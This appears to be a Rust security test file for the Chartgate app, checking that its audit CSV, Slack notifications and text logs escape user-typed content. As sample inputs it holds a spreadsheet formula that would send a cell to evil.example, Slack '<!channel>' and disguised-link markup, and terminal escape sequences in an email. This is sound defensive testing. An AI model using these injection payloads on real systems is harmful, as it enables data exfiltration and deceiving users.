//! What Chartgate writes for other programs never carries what users typed as live markup
//! (issue 22, finding 8): the audit CSV as a spreadsheet reads it, chat messages as Slack reads
//! them, and the text log as a terminal shows it.

use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use app::sync::{JobStatus, SyncTrigger};
use app::types::{ReviewRequest, ReviewStatus, Role};
use axum::body::Body;
use axum::http::{Request, StatusCode};
use chartgate::access::{Actor, User};
use chartgate::charts::ChartStore;
use chartgate::config::Config;
use chartgate::http::WebState;
use chartgate::state::AppState;
use chartgate::sync::{self, NewJob, Worker, WorkerOptions};
use chartgate::{accounts, diffs, reviews};
use serde_json::Value;
use tower::ServiceExt;

use crate::engine::register;
use crate::support::{chart, Kind, TestEnv};

/// A spreadsheet formula that would send the sheet's first cell to another site.
const FORMULA_ID: &str = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"open me\")";

async fn lead(state: &AppState) -> User {
    accounts::add_user(&state.db, &Actor::operator("test"), "lead@example.org", Role::Lead, None).await.unwrap()
}

async fn approve(state: &AppState, user: &User, branch: &str, id: &str) {
    let item = diffs::item(state, branch, id).await.unwrap();
    let req = ReviewRequest {
        status: ReviewStatus::Approved,
        staging_hash: item.staging_hash,
        production_hash: item.production_hash,
        comment: Some("+1 @here =1+1".into()),
    };
    reviews::decide(state, branch, id, user, &req).await.unwrap();
}

/// A state with `config` and its production store, holding `plain`.
async fn with_production(config: Config) -> (AppState, ChartStore) {
    let production = ChartStore::open(&config.production_url, true).await.unwrap();
    production.create_schema().await.unwrap();
    production.put_many(&[chart("plain", "Plain")]).await.unwrap();
    (AppState::new(config).await.unwrap(), production)
}

/// Cells that begin with `=`, `+`, `-`, `@`, a tab or a carriage return are formulas to a
/// spreadsheet; the export writes such a chart id (and every such cell) as text.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_audit_csv_never_starts_a_cell_with_a_formula() {
    let env = TestEnv::new(Kind::Sqlite).await;
    let (state, production) = with_production(env.config().await).await;
    let staging = env.store("staging").await;
    staging.copy_from(&production).await.unwrap();
    staging.put_many(&[chart(FORMULA_ID, "A chart named like a formula")]).await.unwrap();
    register(&state, "feature/csv", &staging).await.unwrap();
    let user = lead(&state).await;
    approve(&state, &user, "feature-csv", FORMULA_ID).await;
    let token = accounts::create_token(&state.db, &Actor::operator("test"), "lead@example.org").await.unwrap();

    let req = Request::get("/api/v1/audit?format=csv")
        .header("authorization", format!("Bearer {token}"))
        .body(Body::empty())
        .unwrap();
    let resp = chartgate::http::router(WebState::new(state.clone())).oneshot(req).await.unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    let bytes = axum::body::to_bytes(resp.into_body(), 1 << 24).await.unwrap();
    let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(&bytes[..]);
    let headers = reader.headers().unwrap().clone();
    let chart_id = headers.iter().position(|h| h == "chart_id").expect("a chart_id column");
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert!(!records.is_empty());
    for record in &records {
        for cell in record {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a live formula: {cell:?} in {record:?}");
        }
    }
    assert!(
        records.iter().any(|r| r.get(chart_id) == Some(&format!("'{FORMULA_ID}")[..])),
        "the chart id is kept, as text: {records:?}"
    );
    env.cleanup().await;
}

/// What a local receiver was sent: (path, JSON body).
type Seen = Arc<Mutex<Vec<(String, Value)>>>;

async fn receiver() -> (String, Seen) {
    use axum::extract::{Request, State};
    let seen = Seen::default();
    async fn take(State(seen): State<Seen>, req: Request) -> StatusCode {
        let path = req.uri().path().to_string();
        let bytes = axum::body::to_bytes(req.into_body(), 1 << 20).await.unwrap();
        seen.lock().unwrap().push((path, serde_json::from_slice(&bytes).unwrap_or(Value::Null)));
        StatusCode::OK
    }
    let app = axum::Router::new().fallback(take).with_state(seen.clone());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    (format!("http://{addr}"), seen)
}

/// A sync job that ends partial is told to the chat webhook with the items it skipped. Their ids
/// and slugs are the store's data: written as Slack markup they would ping the whole channel
/// (`<!channel>`) and show a link to another site as something else (`<url|text>`).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn chat_messages_show_ids_and_slugs_as_text() {
    let (url, seen) = receiver().await;
    let env = TestEnv::new(Kind::Sqlite).await;
    let config = Config {
        notify_url: Some(format!("{url}/chat")),
        public_url: Some("https://chartgate.example".into()),
        ..env.config().await
    };
    let (state, production) = with_production(config).await;
    let staging = env.store("staging").await;
    staging.copy_from(&production).await.unwrap();
    let mut plain = chart("plain", "Plain, renamed");
    plain.updated_at = "2025-03-03T00:00:00Z".into();
    let mut lure = chart("lure", "Lure");
    lure.slug = "<https://evil.example|open the review>".into();
    staging.put_many(&[plain, chart("<!channel>", "Everyone"), lure]).await.unwrap();
    register(&state, "feature/chat", &staging).await.unwrap();
    let user = lead(&state).await;
    approve(&state, &user, "feature-chat", "plain").await;

    let new = NewJob {
        branch: "feature-chat",
        dry_run: false,
        trigger: SyncTrigger::Cli,
        delivery_id: None,
        idempotency_key: None,
    };
    let id = sync::enqueue(&state, &Actor::operator("cli"), new).await.unwrap().job_id;
    let worker = Worker::new(state.clone(), WorkerOptions::default());
    while worker.run_next().await.unwrap().is_some() {}
    assert_eq!(sync::get_job(&state.db, id).await.unwrap().status, JobStatus::Partial, "two items wait for review");

    let deadline = Instant::now() + Duration::from_secs(30);
    let text = loop {
        if let Some((_, body)) = seen.lock().unwrap().iter().find(|(path, _)| path == "/chat") {
            break body["text"].as_str().expect("a text message").to_string();
        }
        assert!(Instant::now() < deadline, "no chat message arrived");
        tokio::time::sleep(Duration::from_millis(50)).await; // polling interval
    };
    assert!(!text.contains("<!channel>") && !text.contains("<https://evil.example"), "live markup: {text}");
    assert!(text.contains("&lt;!channel&gt;"), "the id is shown as text: {text}");
    assert!(text.contains("&lt;https://evil.example|open the review&gt;"), "the slug is shown as text: {text}");
    assert!(text.contains("https://chartgate.example/jobs/"), "the link to the job stays a link: {text}");
    env.cleanup().await;
}

/// An email typed at sign-in reaches the text log (a failed sign-in names it). Control
/// characters in it — here a terminal's escape sequences and a bell — are written escaped, so
/// the log cannot be made to rewrite a terminal or forge a line.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn text_logs_escape_control_characters_from_user_input() {
    let dir = tempfile::tempdir().unwrap();
    crate::api::run(dir.path(), &["demo", "--charts", "40"]);
    let log = dir.path().join("server.log");
    let mut child = crate::api::chartgate(dir.path())
        .arg("serve")
        .env("CHARTGATE_LISTEN", "127.0.0.1:0")
        .env("CHARTGATE_LOG_FORMAT", "text")
        .env("RUST_LOG", "chartgate=info")
        // No colours of the logger's own, on any version: every escape in the file is the input's.
        .env("NO_COLOR", "1")
        .stdout(std::process::Stdio::piped())
        .stderr(std::fs::File::create(&log).unwrap())
        .spawn()
        .unwrap();
    let base = {
        use std::io::BufRead;
        let stdout = std::io::BufReader::new(child.stdout.take().unwrap());
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            for line in stdout.lines().map_while(Result::ok) {
                if let Some(url) = line.strip_prefix("chartgate listening on ") {
                    let _ = tx.send(url.to_string());
                }
            }
        });
        rx.recv_timeout(Duration::from_secs(60)).expect("the server announces its address")
    };

    let email = "mallory\u{1b}[31m\u{1b}]0;owned\u{7}@evil.example";
    let resp = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap()
        .post(format!("{base}/auth/login"))
        .header("origin", &base)
        .form(&[("email", email), ("password", "not the password")])
        .send()
        .await
        .unwrap();
    assert!(resp.status().is_redirection() || resp.status().is_client_error(), "{}", resp.status());

    let deadline = Instant::now() + Duration::from_secs(30);
    let text = loop {
        let text = String::from_utf8_lossy(&std::fs::read(&log).unwrap()).into_owned();
        if text.contains("mallory") {
            break text;
        }
        assert!(Instant::now() < deadline, "the sign-in was never logged:\n{text}");
        tokio::time::sleep(Duration::from_millis(50)).await; // polling interval
    };
    let _ = child.kill();
    let _ = child.wait();
    let line = text.lines().find(|l| l.contains("mallory")).unwrap();
    assert!(!text.chars().any(|c| c.is_control() && c != '\n'), "a raw control character in the log: {:?}", line);
    assert!(line.contains("mallory\\u{1b}[31m\\u{1b}]0;owned\\u{7}@evil.example"), "escaped, not dropped: {line}");
}
